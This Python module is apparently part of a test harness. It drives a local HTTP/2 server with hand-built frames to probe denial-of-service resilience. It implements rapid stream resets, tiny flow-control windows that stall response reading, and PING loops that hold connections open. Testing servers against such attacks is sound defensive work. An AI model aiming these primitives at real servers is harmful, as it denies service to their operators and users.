"""An HTTP/2 client that sends whatever frames the attack chooses."""

import socket
import ssl
import struct
import time
from collections.abc import Iterable

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
# Why a stream is reset: it is no longer wanted (RFC 9113 §7).
CANCEL = 8
# The time limit of each operation, in seconds.
TIMEOUT = 20


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """RFC 9113 §4.1."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


class Connection:
    """A TLS connection with this initial window for each response, in bytes."""

    def __init__(self, port: int, window: int) -> None:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        tcp = socket.create_connection(("127.0.0.1", port), TIMEOUT)
        self.tls = context.wrap_socket(tcp, server_hostname="localhost")
        self.encoder = hpack.Encoder()
        self.next = 1
        # Bytes of HTTP/2 sent so far.
        self.sent = 0
        # Whether the server still accepts data.
        self.is_open = True
        self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window)))

    def send(self, data: bytes) -> None:
        """Sends bytes; it is not an error if the server has closed the connection."""
        try:
            self.tls.sendall(data)
            self.sent += len(data)
        except OSError:
            self.is_open = False

    def request(self, path: str, streams: int) -> None:
        """Sends GET on this many new streams."""
        self.send(b"".join(self._heads(path, streams)))

    def request_and_reset(self, path: str, streams: int) -> None:
        """Sends GET on this many new streams, each reset in the next frame."""
        heads = self._heads(path, streams)
        self.send(b"".join(head + self._rst_stream(self.next - 2 * (streams - number))
                           for number, head in enumerate(heads)))

    def reset(self, stream: int) -> None:
        """Resets a stream."""
        self.send(self._rst_stream(stream))

    def goaway(self) -> tuple[int, int] | None:
        """Reads to the end of the connection; returns the last stream and the error code of the server's GOAWAY."""
        received = b""
        try:
            while data :=  self.tls.recv(65_536):
                received += data
        except OSError:
            pass
        while len(received) >= 9:
            length, kind = int.from_bytes(received[:3], "big"), received[3]
            if kind == GOAWAY:
                return struct.unpack_from(">II", received, 9)
            received = received[9 + length:]
        return None

    def _heads(self, path: str, streams: int) -> list[bytes]:
        head = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", path)]
        heads = []
        for _ in range(streams):
            heads.append(frame(HEADERS, END_STREAM | END_HEADERS, self.next, self.encoder.encode(head)))
            self.next += 2
        return heads

    @staticmethod
    def _rst_stream(stream: int) -> bytes:
        return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))

    def ping(self) -> None:
        """Sends a PING, which reads nothing of any response."""
        self.send(frame(PING, 0, 0, b"8 octets"))

    def widen(self, stream: int, by: int) -> None:
        """Opens the window of a stream, or of the connection, which is stream 0."""
        self.send(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", by)))


def hold(connections: Iterable[Connection], seconds: float) -> None:
    """Holds connections for this long, with a PING each second."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        time.sleep(1)
        for connection in connections:
            connection.ping()
